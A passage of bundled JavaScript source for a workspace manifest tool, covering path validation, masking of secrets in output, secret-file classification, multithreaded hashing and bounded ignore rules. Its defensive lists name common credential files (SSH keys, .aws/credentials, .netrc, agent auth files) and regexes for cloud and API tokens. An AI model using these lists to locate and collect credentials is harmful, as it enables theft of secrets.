            return 'has a "." segment; write it without';
    }
    return undefined;
}
/**
 * Turn what a user typed (relative to `cwd`, or absolute) into the manifest spelling relative to
 * `workspace`. Returns an error string when the path is outside the workspace.
 */
function toManifestPath(input, cwd, workspace) {
    const abs = external_node_path_default().resolve(cwd, input.normalize('NFC'));
    const rel = external_node_path_default().relative(workspace, abs);
    if (rel === '')
        return { ok: true, path: '.' };
    if (rel === '..' || rel.startsWith('../') || external_node_path_default().isAbsolute(rel)) {
        return { ok: false, why: `${input} is outside the workspace ${workspace}` };
    }
    const spelled = rel.split((external_node_path_default()).sep).join('/');
    const problem = pathProblem(spelled);
    return problem ? { ok: false, why: `${input} ${problem}` } : { ok: true, path: spelled };
}
/** True when `abs` is `root` or below it (both already absolute and normalised). */
function isInside(root, abs) {
    if (abs === root)
        return true;
    const base = root.endsWith('/') ? root : `${root}/`;
    return abs.startsWith(base);
}
/** Absolute location of a validated manifest path. */
function resolveEntryPath(workspace, rel) {
    return rel === '.' ? workspace : external_node_path_default().join(workspace, rel);
}
/** Why a sentinel or other tree-relative path is unacceptable (same rules, "." refused). */
function innerPathProblem(p) {
    if (p === '.')
        return 'names the tree itself';
    return pathProblem(p);
}

;// CONCATENATED MODULE: ./src/core/run/scrub.ts
/**
 * Scrubbing secrets from recipe output before it is printed or kept: the exact values of the
 * variables an entry marks secret, and token shapes that are secrets wherever they appear.
 */
const TOKEN_SHAPES = [
    /\bgh[pousr]_[A-Za-z0-9]{36,255}\b/g, // GitHub tokens
    /\bgithub_pat_[A-Za-z0-9_]{22,255}\b/g,
    /\bglpat-[A-Za-z0-9_-]{20,}\b/g, // GitLab
    /\bxox[abposr]-[A-Za-z0-9-]{10,}\b/g, // Slack
    /\b(?:AKIA|ASIA)[A-Z0-9]{16}\b/g, // AWS access key ids
    /\bsk-(?:proj-|ant-)?[A-Za-z0-9_-]{20,}\b/g, // OpenAI / Anthropic style keys
    /\bhf_[A-Za-z0-9]{30,}\b/g, // Hugging Face
    /\bnpm_[A-Za-z0-9]{36}\b/g,
    /\bAIza[0-9A-Za-z_-]{35}\b/g, // Google API keys
    /\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\b/g, // JWTs
    /-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?-----END [A-Z ]*PRIVATE KEY-----/g,
    /(?<=[a-z][a-z0-9+.-]*:\/\/[^:/@\s]+:)[^@\s]+(?=@)/gi // password in a URL
];
const MASK = '***';
/** True when `text` holds one of the token shapes (escrow refuses such files; see secrets.ts). */
function hasTokenShape(text) {
    // search() ignores the patterns' global state, so the shared regexes stay reusable.
    return TOKEN_SHAPES.some(re => text.search(re) >= 0);
}
/** Shorter pieces are not masked: masking `a` or `ok` would hide every word. */
const MIN_SECRET = 4;
/**
 * What to mask for these secret values: each whole value and, since output is read and masked
 * line by line (recipe output here, the log on the runner), every line of a multi-line value (a
 * PEM or OpenSSH key), trimmed. Longest first, so no piece is masked by a part of it.
 */
function secretPieces(secretValues) {
    const pieces = secretValues.flatMap(v => [v, v.trim(), ...v.split(/\r?\n|\r/).map(l => l.trim())]);
    return [...new Set(pieces.filter(v => v.length >= MIN_SECRET))].sort((a, b) => b.length - a.length);
}
/** A scrubber for these secret values (pieces shorter than 4 characters are not masked). */
function makeScrubber(secretValues) {
    const values = secretPieces(secretValues);
    return text => {
        let out = text;
        for (const v of values)
            out = out.split(v).join(MASK);
        for (const re of TOKEN_SHAPES)
            out = out.replace(re, MASK);
        return out;
    };
}
/** `value` with every string in it scrubbed (a report before it is written or printed). */
function scrubDeep(value, scrub) {
    if (typeof value === 'string')
        return scrub(value);
    if (Array.isArray(value))
        return value.map(v => scrubDeep(v, scrub));
    if (value !== null && typeof value === 'object')
        return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, scrubDeep(v, scrub)]));
    return value;
}

;// CONCATENATED MODULE: ./src/core/secrets.ts
/**
 * Which files hold secrets. A secret is tracked by hash only (a tier-0 file entry: its loss is
 * noticed and named) and never escrowed: escrowed bytes travel inside the manifest, which is
 * committed, pushed and shared, and a manifest is not a vault.
 *
 * A file is a secret by where it is (swr's own state directory: its HMAC key, ML-DSA and sync
 * seeds), by name (well-known credential locations: ssh keys, netrc, the logins of git, gh, npm,
 * PyPI, cargo, cloud CLIs and coding agents, dotenv and direnv files, `*.pem`, `*.key`), or by
 * content: a PEM, OpenSSH or PGP private-key header, or one of the token shapes the recipe-output
 * scrubber masks. Content is judged on the file's first SNIFF_BYTES only, so classifying a large
 * file costs one bounded read. The name rule also holds for entries added by hand, and escrow
 * consults the whole rule for every file it is asked to embed.
 */




/** The note a secret's entry carries when it was added without one. */
const SECRET_NOTE = 'secret: tracked by hash only and never escrowed; restore it from where it was issued';
/** Bytes read from the head of a file to judge its content. */
const SNIFF_BYTES = 64 * 1024;
/** File names that are credentials wherever they are. */
const SECRET_NAMES = new Set([
    '.netrc',
    '_netrc',
    '.git-credentials',
    '.pgpass',
    '.npmrc',
    '.pypirc',
    '.env',
    '.envrc',
    '.vault-token',
    '.credentials.json',
    'oauth_creds.json',
    'credentials.toml',
    'id_rsa',
    'id_dsa',
    'id_ecdsa',
    'id_ed25519',
    'id_ecdsa_sk',
    'id_ed25519_sk'
]);
/** Extensions of key and certificate-bundle files. */
const SECRET_EXTENSIONS = /\.(pem|key|p12|pfx|jks|keystore|ppk)$/i;
/** Paths (relative, ending a manifest path) that are credentials in one tool's directory. */
const SECRET_SUFFIXES = [
    '.codex/auth.json',
    'gh/hosts.yml',
    '.aws/credentials',
    '.docker/config.json',
    '.kube/config',
    '.cargo/credentials',
    'gcloud/credentials.db',
    'gcloud/application_default_credentials.json'
];
/** Directories whose every file is secret. */
const SECRET_DIRS = new Set(['.gnupg']);
/** What may sit in ~/.ssh without being a private key. */
const SSH_PUBLIC = new Set(['config', 'known_hosts', 'known_hosts.old', 'authorized_keys']);
/** Templates list which variables exist, without values. */
const ENV_TEMPLATE = /^\.env\.(example|sample|template|dist)$/;
/** PEM ("RSA", "EC", "ENCRYPTED", none), OpenSSH and PGP private-key armour. */
const PRIVATE_KEY_HEADER = /-----BEGIN (?:[A-Z0-9]+ ){0,4}PRIVATE KEY(?: BLOCK)?-----/;
/** True when `rel` (a manifest path) names a file that must never be escrowed. */
function isSecretPath(rel) {
    const segs = rel.split('/');
    const name = segs[segs.length - 1] ?? '';
    const parent = segs[segs.length - 2];
    if (segs.slice(0, -1).some(s => SECRET_DIRS.has(s)))
        return true;
    if (SECRET_SUFFIXES.some(s => rel === s || rel.endsWith(`/${s}`)))
        return true;
    if (SECRET_NAMES.has(name) || SECRET_EXTENSIONS.test(name))
        return true;
    if (name.startsWith('.env.') && !ENV_TEMPLATE.test(name))
        return true;
    // Any key ssh-keygen or a person put into .ssh (id_work, deploy_github); .pub is public.
    return parent === '.ssh' && !name.endsWith('.pub') && !SSH_PUBLIC.has(name);
}
/** Why these bytes are a secret (a private key or a token), or undefined. */
function secretContent(bytes) {
    const text = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength).toString('latin1');
    if (PRIVATE_KEY_HEADER.test(text))
        return 'holds a private key';
    if (hasTokenShape(text))
        return 'holds a token or a password';
    return undefined;
}
/** The first `max` bytes of a regular file, read without following a symlink. */
function readHead(abs, max = SNIFF_BYTES) {
    const fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW | (external_node_fs_default()).constants.O_NONBLOCK);
    try {
        if (!external_node_fs_default().fstatSync(fd).isFile())
            return Buffer.alloc(0);
        const buf = Buffer.alloc(max);
        let got = 0;
        while (got < max) {
            const n = external_node_fs_default().readSync(fd, buf, got, max - got, got);
            if (n === 0)
                break;
            got += n;
        }
        return buf.subarray(0, got);
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
}
function realOrResolved(p) {
    try {
        return external_node_fs_default().realpathSync(p);
    }
    catch {
        return external_node_path_default().resolve(p);
    }
}
/** Why the file is a secret, in a few words, or undefined when it is not one. */
function secretReason(q) {
    if (q.abs && q.stateDir && isInside(realOrResolved(q.stateDir), realOrResolved(q.abs)))
        return "is in swr's state directory";
    if (isSecretPath(q.rel))
        return 'is a credential by name';
    let bytes = q.bytes;
    if (!bytes && q.abs) {
        try {
            bytes = readHead(q.abs);
        }
        catch {
            return undefined;
        }
    }
    return bytes ? secretContent(bytes) : undefined;
}

// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __nccwpck_require__(8161);
var external_node_os_default = /*#__PURE__*/__nccwpck_require__.n(external_node_os_);
// EXTERNAL MODULE: external "node:worker_threads"
var external_node_worker_threads_ = __nccwpck_require__(5919);
// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __nccwpck_require__(7598);
;// CONCATENATED MODULE: ./src/core/verify/hash-kernel.mjs
// The hashing kernel, shared by the main thread and the hash workers. Plain JavaScript so the same
// file runs as a worker_threads script from src/ (tests) and from dist/ (the bundles) without a
// build step. Synchronous reads into one reused buffer measured 3-6x faster than fs.promises
// here; files are opened with O_NOFOLLOW (a symlink swapped in for a file is an error, never a
// read elsewhere) and O_NONBLOCK (a FIFO planted in a tree cannot hang the check).




const MIB = 1024 * 1024
const READ_FLAGS = external_node_fs_.constants.O_RDONLY | external_node_fs_.constants.O_NOFOLLOW | (external_node_fs_.constants.O_NONBLOCK ?? 0)

/** @type {Buffer | undefined} */
let shared

function buffer() {
  shared ??= Buffer.allocUnsafe(MIB)
  return shared
}

function notAFile(abs) {
  return Object.assign(new Error(`${abs}: not a regular file`), { code: 'ENOTFILE' })
}

function readFully(fd, buf, length, position) {
  let got = 0
  while (got < length) {
    const n = external_node_fs_.readSync(fd, buf, got, length - got, position + got)
    if (n === 0) break
    got += n
  }
  return got
}

/**
 * sha256 of a regular file's bytes, with size and mode read from the same descriptor.
 * @param {string} abs
 * @returns {{ sha256: string, size: number, mode: number }}
 */
function hashFile(abs) {
  const fd = external_node_fs_.openSync(abs, READ_FLAGS)
  try {
    const st = external_node_fs_.fstatSync(fd)
    if (!st.isFile()) throw notAFile(abs)
    const h = (0,external_node_crypto_.createHash)('sha256')
    const buf = buffer()
    for (;;) {
      const n = external_node_fs_.readSync(fd, buf, 0, buf.length, null)
      if (n === 0) break
      h.update(n === buf.length ? buf : buf.subarray(0, n))
    }
    return { sha256: h.digest('hex'), size: st.size, mode: st.mode & 0o7777 }
  } finally {
    external_node_fs_.closeSync(fd)
  }
}

/**
 * The blob head/tail digest: sha256 of the decimal size, the first MiB, and the last MiB when the
 * file is larger than one MiB. Reads at most 2 MiB whatever the file's size.
 * @param {string} abs
 * @returns {{ sha256: string, size: number, mode: number }}
 */
function hashHeadTail(abs) {
  const fd = external_node_fs_.openSync(abs, READ_FLAGS)
  try {
    const st = external_node_fs_.fstatSync(fd)
    if (!st.isFile()) throw notAFile(abs)
    const h = (0,external_node_crypto_.createHash)('sha256').update(String(st.size))
    const buf = buffer()
    h.update(buf.subarray(0, readFully(fd, buf, Math.min(MIB, st.size), 0)))
    if (st.size > MIB) h.update(buf.subarray(0, readFully(fd, buf, MIB, st.size - MIB)))
    return { sha256: h.digest('hex'), size: st.size, mode: st.mode & 0o7777 }
  } finally {
    external_node_fs_.closeSync(fd)
  }
}

/**
 * Run one job; errors come back as their code so one unreadable file never stops the others.
 * @param {string} abs
 * @param {'full' | 'headtail'} how
 */
/**
 * A time in cache stamps, as GNU find's %T@ prints it (seconds, a dot, nine digits of nanoseconds
 * and a zero): the native walker (native-walk.ts) then passes find's lines through unchanged.
 * Another spelling (a time before 1970) only costs a cache miss.
 */
function stampTime(ns) {
  if (ns < 0n) return `-${-ns}`
  return `${ns / 1000000000n}.${(ns % 1000000000n).toString().padStart(9, '0')}0`
}

function runJob(abs, how) {
  try {
    return how === 'headtail' ? hashHeadTail(abs) : hashFile(abs)
  } catch (err) {
    return { error: typeof err?.code === 'string' ? err.code : 'EIO' }
  }
}

// Worker loop: claim job indices from a shared counter (largest files were sorted first by the
// pool), post results in batches so 60,000 small files do not cost 60,000 messages.
if (!external_node_worker_threads_.isMainThread && external_node_worker_threads_.workerData?.swrHashWorker) {
  const { paths, hows, counter } = external_node_worker_threads_.workerData
  const next = new Int32Array(counter)
  let batch = []
  for (;;) {
    const i = Atomics.add(next, 0, 1)
    if (i >= paths.length) break
    batch.push([i, runJob(paths[i], hows[i])])
    if (batch.length >= 512) {
      external_node_worker_threads_.parentPort.postMessage(batch)
      batch = []
    }
  }
  external_node_worker_threads_.parentPort.postMessage(batch)
  external_node_worker_threads_.parentPort.postMessage('done')
}

/**
 * Walking subtrees in a worker, so both cores lstat (and hash) at once. `eachEntry` receives every
 * entry below the root in walk order (children sorted, symlinks never followed).
 */
function visitSubtree(rootAbs, rootRel, rules, eachEntry, unreadable) {
  // Plain names only: glob rules keep the walk in the main thread (ignore-rules.ts).
  const ignored = name => rules.names.has(name)
  const visit = (absDir, relDir) => {
    let names
    try {
      names = external_node_fs_.readdirSync(absDir)
    } catch (err) {
      unreadable.push({ rel: relDir, code: err?.code ?? 'EIO' })
      return
    }
    names.sort()
    for (const name of names) {
      const rel = `${relDir}/${name}`
      if (ignored(name)) continue
      const abs = `${absDir}/${name}`
      if (rules.exclude.has(abs)) continue
      const st = external_node_fs_.lstatSync(abs, { bigint: true, throwIfNoEntry: false })
      if (!st) continue
      const type = st.isFile() ? 'f' : st.isDirectory() ? 'd' : st.isSymbolicLink() ? 'l' : 'o'
      eachEntry(abs, rel, type, st)
      if (type === 'd') visit(abs, rel)
    }
  }
  visit(rootAbs, rootRel)
}

/** Records of a subtree as column arrays (and, with `hash`, each file's sha256). */
function subtreeColumns(rootAbs, rootRel, rules, hash) {
  const out = {
    rels: [],
    types: [],
    sizes: [],
    modes: [],
    devs: [],
    inos: [],
    mtimes: [],
    ctimes: [],
    shas: [],
    unreadable: []
  }
  const each = (abs, rel, type, st) => {
    out.rels.push(rel)
    out.types.push(type)
    out.sizes.push(type === 'f' ? Number(st.size) : 0)
    out.modes.push(Number(st.mode & 0o7777n))
    out.devs.push(st.dev)
    out.inos.push(st.ino)
    out.mtimes.push(st.mtimeNs)
    out.ctimes.push(st.ctimeNs)
    let sha = null
    if (hash && type === 'f') {
      const r = runJob(abs, 'full')
      sha = 'error' in r ? null : r.sha256
    }
    out.shas.push(sha)
  }
  visitSubtree(rootAbs, rootRel, rules, each, out.unreadable)
  return out
}

const MODE_TEXT = new Map()
function modeText(mode) {
  let t = MODE_TEXT.get(mode)
  if (t === undefined) {
    t = (mode & 0o7777).toString(8).padStart(4, '0')
    MODE_TEXT.set(mode, t)
  }
  return t
}

/**
 * The digest lines of a subtree as one string, without per-entry records: `meta` lines (relpath,
 * type, size, mode) or `stamp` lines (relpath and identity), exactly as walk.ts spells them.
 */
function subtreeText(rootAbs, rootRel, rules, kind) {
  const chunks = []
  let text = ''
  let files = 0
  const unreadable = []
  const each = (_abs, rel, type, st) => {
    text +=
      kind === 'meta'
        ? `${rel}\0${type}\0${type === 'f' ? st.size : 0}\0${modeText(Number(st.mode))}\n`
        : `${rel}\0${type}\0${st.dev}:${st.ino}:${stampTime(st.mtimeNs)}:${stampTime(st.ctimeNs)}\n`
    if (text.length > 1 << 16) {
      chunks.push(text)
      text = ''
    }
    if (type !== 'd') files++
  }
  visitSubtree(rootAbs, rootRel, rules, each, unreadable)
  chunks.push(text)
  return { text: chunks.join(''), files, unreadable }
}

// Walk workers: claim roots from a shared counter, post each root's result with its index.
if (!external_node_worker_threads_.isMainThread && (external_node_worker_threads_.workerData?.swrWalkWorker || external_node_worker_threads_.workerData?.swrTextWorker)) {
  const { roots, counter, hash, kind, names, exclude } = external_node_worker_threads_.workerData
  const rules = { names: new Set(names), exclude: new Set(exclude) }
  const next = new Int32Array(counter)
  for (;;) {
    const i = Atomics.add(next, 0, 1)
    if (i >= roots.length) break
    const { abs, rel } = roots[i]
    external_node_worker_threads_.parentPort.postMessage([
      i,
      external_node_worker_threads_.workerData.swrTextWorker
        ? subtreeText(abs, rel, rules, kind)
        : subtreeColumns(abs, rel, rules, hash)
    ])
  }
  external_node_worker_threads_.parentPort.postMessage('done')
}

;// CONCATENATED MODULE: ./src/core/verify/hash-pool.ts
/**
 * Hashing many files at once. Small batches run inline (a worker costs 30-50 ms to start); big ones
 * go to one worker per core, each claiming the next job from a shared counter, largest first, so a
 * 2 GB blob and 60,000 small files keep both cores busy to the end.
 */



const INLINE_BYTES = 48 * 1024 * 1024;
const INLINE_COUNT = 400;
/** Where the kernel lives next to this module, in src/ and in every bundle alike. */
function kernelUrl() {
    return __nccwpck_require__.ab + "hash-kernel.mjs";
}
/** Hash every job; results are in job order. */
async function hashAll(jobs, opts = {}) {
    const total = jobs.reduce((s, j) => s + j.cost, 0);
    const workers = Math.max(1, Math.min(opts.jobs ?? external_node_os_default().availableParallelism(), 32, jobs.length));
    if (workers === 1 || (total < INLINE_BYTES && jobs.length < INLINE_COUNT)) {
        let done = 0;
        return jobs.map(j => {
            const r = runJob(j.abs, j.how);
            done += j.cost;
            opts.onProgress?.(done, total);
            return r;
        });
    }
    const order = jobs.map((_, i) => i).sort((a, b) => (jobs[b]?.cost ?? 0) - (jobs[a]?.cost ?? 0));
    const paths = order.map(i => jobs[i]?.abs ?? '');
    const hows = order.map(i => jobs[i]?.how ?? 'full');
    const counter = new SharedArrayBuffer(4);
    const results = new Array(jobs.length);
    let done = 0;
    await Promise.all(Array.from({ length: workers }, () => runWorker({ swrHashWorker: true, paths, hows, counter }, batch => {
        for (const [k, r] of batch) {
            const original = order[k] ?? 0;
            results[original] = r;
            done += jobs[original]?.cost ?? 0;
        }
        opts.onProgress?.(done, total);
    })));
    return results;
}
function runWorker(workerData, onBatch) {
    return new Promise((resolve, reject) => {
        const w = new external_node_worker_threads_.Worker(kernelUrl(), { workerData });
        let finished = false;
        w.on('message', (m) => {
            if (m === 'done') {
                finished = true;
                void w.terminate().then(() => resolve());
            }
            else
                onBatch(m);
        });
        w.on('error', reject);
        w.on('exit', code => {
            if (!finished)
                reject(new Error(`hash worker exited with code ${code}`));
        });
    });
}

;// CONCATENATED MODULE: ./src/core/hash-off-thread.ts
/**
 * Hashing one large file on a worker thread, with the verifiers' own kernel, so the main thread's
 * event loop stays live meanwhile: a lock holder refreshes its lock, signals are handled. A small
 * file is hashed inline (a worker costs 30-50 ms to start).
 */



const hash_off_thread_INLINE_BYTES = 16 * 1024 * 1024;
function hashOffThread(abs, how, size) {
    if (size < hash_off_thread_INLINE_BYTES)
        return Promise.resolve(runJob(abs, how));
    return new Promise((resolve, reject) => {
        const counter = new SharedArrayBuffer(4);
        const w = new external_node_worker_threads_.Worker(kernelUrl(), {
            workerData: { swrHashWorker: true, paths: [abs], hows: [how], counter }
        });
        let result;
        w.on('message', (m) => {
            if (m === 'done')
                void w.terminate();
            else
                for (const [, r] of m)
                    result = r;
        });
        w.on('error', reject);
        w.on('exit', () => result ? resolve(result) : reject(new Error('hash worker ended without a result')));
    });
}

;// CONCATENATED MODULE: ./src/core/verify/locate-entry.ts
/**
 * Finding an entry on disk without being led out of the workspace. The parent chain is resolved
 * with realpath and must stay inside the workspace; the entry itself is lstat'ed, never followed.
 * Checking is read-only, so a parent swapped between this call and a read yields a wrong answer at
 * worst, never a write elsewhere (writes in repair use their own descriptor-based checks).
 */



/** Locate `rel` below `root` (an absolute, real directory path). */
function locateInside(root, rel) {
    const abs = rel === '.' ? root : external_node_path_default().join(root, rel);
    if (rel !== '.') {
        const parent = external_node_path_default().dirname(abs);
        let realParent;
        try {
            realParent = external_node_fs_default().realpathSync(parent);
        }
        catch (err) {
            const code = err.code;
            const why = code === 'ENOTDIR' ? 'a parent is not a directory' : 'parent directory absent';
            return { state: 'missing', abs, why };
        }
        if (!isInside(root, realParent)) {
            return { state: 'escapes', abs, why: `parent resolves outside the workspace (${realParent})` };
        }
    }
    try {
        return { state: 'present', abs, st: external_node_fs_default().lstatSync(abs, { bigint: true }) };
    }
    catch (err) {
        const code = err.code;
        return { state: 'missing', abs, why: code === 'ENOENT' ? 'absent' : `unreadable (${code})` };
    }
}
/** What a non-matching type is, in the words reports use. */
function typeName(st) {
    if (st.isFile())
        return 'file';
    if (st.isDirectory())
        return 'directory';
    if (st.isSymbolicLink())
        return 'symlink';
    if (st.isFIFO())
        return 'fifo';
    if (st.isSocket())
        return 'socket';
    return 'device';
}
/** The incremental-cache identity of a file: dev, inode, size, mtime_ns, ctime_ns. */
function identity(st) {
    return `${st.dev}:${st.ino}:${st.size}:${st.mtimeNs}:${st.ctimeNs}`;
}

;// CONCATENATED MODULE: ./src/core/verify/mode.ts
/** Permission modes as manifests spell them ("0755") and the exec-bit rule behind STRIPPED. */
/** "0755" from permission bits. */
function octal(mode) {
    return (mode & 0o7777).toString(8).padStart(4, '0');
}
function parseMode(text) {
    return parseInt(text, 8) & 0o7777;
}
/** True when `found` lacks an exec bit that `wanted` has: what lossy restores do. */
function lostExec(wanted, found) {
    return (wanted & 0o111 & ~found) !== 0;
}

// EXTERNAL MODULE: external "node:zlib"
var external_node_zlib_ = __nccwpck_require__(8522);
;// CONCATENATED MODULE: ./src/core/verify/tree-index.ts
/**
 * The per-file index of a tree: a sidecar file beside the manifest (gzip'd JSON lines: relpath,
 * type, mode, size, sha256 or link target). The manifest holds the sidecar's sha256, so the index
 * is as trustworthy as the manifest; with it, a failed tree check names the files that are
 * missing, extra or changed instead of only saying "digest differs".
 */





const HEADER = JSON.stringify(['swr-tree-index', 1]);
const MAX_INDEX_BYTES = 256 * 1024 * 1024;
/**
 * Budget per recorded entry, inflated: a line holds a path, type, mode, size and a sha256 or link
 * target (about 130 bytes in a node_modules). The budget is an average, so a few very long names fit;
 * an index beyond it (or beyond MAX_INDEX_BYTES) is not parsed.
 */
const BYTES_PER_ENTRY = 1024;
/**
 * Most an index inflates per compressed byte: real ones inflate about 3 times (each file's
 * sha256 hardly compresses), and about 9 for a tree of directories only.
 */
const MAX_RATIO = 64;
const SLACK_BYTES = 64 * 1024;
/** Longest line parsed (two 4096-character paths, escaped, and the fields). */
const MAX_LINE_BYTES = 64 * 1024;
/**
 * The most an index of `entries` records may inflate to. The manifest's count is not trusted
 * either (check reads unsigned manifests), but it is what the walk is compared with, so a
 * larger claim costs no more than the tree it claims would.
 */
function indexBudget(entries) {
    return Math.min(MAX_INDEX_BYTES, SLACK_BYTES + Math.max(0, entries) * BYTES_PER_ENTRY);
}
const LIST_LIMIT = 20;
/** Where the index of tree `id` lives for the manifest at `manifestFile`. */
function indexPath(manifestFile, id) {
    return external_node_path_default().join(external_node_path_default().dirname(manifestFile), 'trees', `${id}.index.gz`);
}
function encodeIndex(records) {
    const lines = [
        HEADER,
        ...records.map(r => JSON.stringify([r.rel, r.type, r.mode, r.size, r.extra ?? null]))
    ];
    return (0,external_node_zlib_.gzipSync)(lines.join('\n') + '\n', { level: 6 });
}
function indexRef(bytes, entries) {
    return { sha256: (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex'), entries };
}
/** Read an index and check it against the manifest; undefined when absent, altered or unreadable. */
function readIndex(file, ref) {
    if (!ref)
        return undefined;
    try {
        // Bounded before anything is read, inflated or parsed: compressed size, inflated size (the
        // inflate stops at the budget) and line count, all from the recorded entry count.
        const budget = indexBudget(ref.entries);
        const st = external_node_fs_default().lstatSync(file);
        if (!st.isFile() || st.size > budget)
            return undefined;
        const bytes = external_node_fs_default().readFileSync(file);
        if ((0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex') !== ref.sha256)
            return undefined;
        const inflated = Math.min(budget, SLACK_BYTES + bytes.length * MAX_RATIO);
        const text = (0,external_node_zlib_.gunzipSync)(bytes, { maxOutputLength: inflated }).toString('utf8');
        const lines = text.split('\n', ref.entries + 3).filter(Boolean);
        if (lines[0] !== HEADER || lines.length !== ref.entries + 1)
            return undefined;
        if (lines.some(l => l.length > MAX_LINE_BYTES))
            return undefined;
        return lines.slice(1).map(line => {
            const [rel, type, mode, size, extra] = JSON.parse(line);
            return { rel, type, mode, size, extra: extra ?? undefined };
        });
    }
    catch {
        return undefined;
    }
}
/** Name what differs between the recorded index and what the walk found now. */
function diffIndex(recorded, now, nowExtra) {
    const before = new Map(recorded.map(r => [r.rel, r]));
    const missing = [];
    const extra = [];
    const changed = [];
    const seen = new Set();
    let execLossOnly = true;
    let contentChanged = false;
    now.forEach((r, i) => {
        seen.add(r.rel);
        const b = before.get(r.rel);
        if (!b)
            return void extra.push(r.rel);
        const what = [];
        if (b.type !== r.type)
            what.push(`type ${b.type} -> ${r.type}`);
        else {
            if (r.type === 'f' && b.size !== r.size)
                what.push(`size ${b.size} -> ${r.size}`);
            if (r.type !== 'l' && b.mode !== r.mode) {
                what.push(`mode ${octal(b.mode)} -> ${octal(r.mode)}`);
                if (!lostExec(b.mode, r.mode))
                    execLossOnly = false;
            }
            const x = nowExtra?.[i];
            if (x !== undefined &&
                b.extra !== undefined &&
                x !== b.extra &&
                !(r.type === 'f' && b.size !== r.size)) {
                what.push(r.type === 'l' ? `target ${b.extra} -> ${x}` : 'content');
                contentChanged = true;
            }
        }
        if (what.length > 1 || (what.length === 1 && !what[0]?.startsWith('mode ')))
            execLossOnly = false;
        if (what.length > 0)
            changed.push({ path: r.rel, what: what.join(', ') });
    });
    for (const r of recorded)
        if (!seen.has(r.rel))
            missing.push(r.rel);
    const diff = {
        missing: missing.slice(0, LIST_LIMIT),
        extra: extra.slice(0, LIST_LIMIT),
        changed: changed.slice(0, LIST_LIMIT),
        counts: { missing: missing.length, extra: extra.length, changed: changed.length }
    };
    return {
        diff,
        execLossOnly: execLossOnly && missing.length === 0 && extra.length === 0 && changed.length > 0,
        contentChanged
    };
}

// EXTERNAL MODULE: external "node:child_process"
var external_node_child_process_ = __nccwpck_require__(1421);
// EXTERNAL MODULE: ./node_modules/ignore/index.js
var ignore = __nccwpck_require__(298);
var ignore_default = /*#__PURE__*/__nccwpck_require__.n(ignore);
;// CONCATENATED MODULE: ./src/core/verify/ignore-rules.ts
/**
 * A tree's ignore rules, read with .gitignore semantics by the `ignore` package: a rule without a
 * slash matches a name at any depth, one with a slash is anchored to the tree, a trailing slash
 * matches directories only, `!` re-includes (never below an ignored directory: the walk does not
 * enter it), `**` spans directories, `#` starts a comment and `\` escapes. Matching is
 * case-sensitive, as on Linux.
 *
 * Rules are manifest strings (hostile until the gate passes, and `check` reads unsigned
 * manifests), and a glob's match time grows with what it may backtrack over, so a rule set is
 * bounded: at most MAX_GLOB_RULES globs of MAX_RULE_CHARS characters, MAX_WILDCARDS wildcards
 * each and one `**` (two let a match backtrack over every pair of directories: a 2,000-level
 * chain took seconds per rule; within the bounds the worst rule measured under a second for it). Plain names (most rules: node_modules, .git) go through a Set
 * and cost nothing; the parallel and native walks take only those and step aside for globs.
 */


const MAX_GLOB_RULES = 16;
const MAX_RULE_CHARS = 128;
const MAX_WILDCARDS = 8;
/** A rule that is exactly one name: matched by equality, and by `find -name` in the native walk. */
function isPlainName(rule) {
    // Leading "#" is a comment and trailing blanks are dropped in gitignore: not plain names.
    return /^[^/*?[\]{}!\\#]+$/.test(rule) && rule.trim() === rule;
}
/** Why one glob rule is too complex to match in bounded time, or undefined. */
function ruleProblem(rule) {
    if (isPlainName(rule))
        return undefined;
    if (rule.length > MAX_RULE_CHARS)
        return `is longer than ${MAX_RULE_CHARS} characters`;
    const wildcards = rule.match(/[*?[]/g)?.length ?? 0;
    if (wildcards > MAX_WILDCARDS)
        return `has more than ${MAX_WILDCARDS} wildcards`;
    // Two "**" (a leading "**/" counts) let a match backtrack over every pair of directories.
    if ((rule.match(/\*\*/g)?.length ?? 0) > 1)
        return 'has more than one "**"';
    return undefined;
}
/** Every problem of a rule set, as [index, text]. */
function ruleSetProblems(rules) {
    const out = [];
    rules.forEach((r, i) => {
        const p = ruleProblem(r);
        if (p)
            out.push([i, p]);
    });
    const globs = rules.flatMap((r, i) => (isPlainName(r) ? [] : [i]));
    const over = globs[MAX_GLOB_RULES];
    if (over !== undefined)
        out.push([over, `is one of ${globs.length} glob rules (at most ${MAX_GLOB_RULES})`]);
    return out;
}
/** True when the rules are all plain names (the fast walks' case). */
function allPlainNames(rules) {
    return rules.every(isPlainName);
}
/**
 * The matcher: `rel` is the path relative to the tree, `name` its last segment, `isDir` whether it
 * is a directory (trailing-slash rules match only those). Throws on a rule set over the bounds.
 */
function ignoreMatcher(rules) {
    if (rules.length === 0)
        return () => false;
    const problem = ruleSetProblems(rules)[0];
    if (problem)
        throw new UsageError(`ignore rule ${JSON.stringify(rules[problem[0]])} ${problem[1]}`);
    if (allPlainNames(rules)) {
        const names = new Set(rules);
        return (_rel, name) => names.has(name);
    }
    // With a negation anywhere, order matters: every rule goes to the gitignore matcher.
    const negated = rules.some(r => r.startsWith('!'));
    const names = new Set(negated ? [] : rules.filter(isPlainName));
    const ig = ignore_default()({ ignorecase: false }).add(rules.filter(r => !names.has(r)));
    return (rel, name, isDir = false) => names.has(name) || ig.ignores(isDir ? `${rel}/` : rel);
}

;// CONCATENATED MODULE: ./src/core/verify/find-lines.ts
/**
 * find's output as lines, indexed and re-sorted into the Node walker's order. find prints each
 * directory in readdir order, one start point after another; the Node walker (hash-kernel.mjs)
 * visits each directory's children sorted by name, each followed by its own subtree. Everything
 * here works on the bytes as find wrote them: lines are found, compared and copied as bytes and
 * hashed as they are, with no string per line (strings were most of the time, and most of the
 * garbage, when lines were decoded).
 */
const NL = 0x0a;
const NUL = 0x00;
const SLASH = 0x2f;
const TYPE_DIR = 0x64;
/**
 * Where each line of find's output starts, where its path ends, where its name starts, and where
 * its subtree ends (the next line that is not below it): siblings are then found by jumping, and
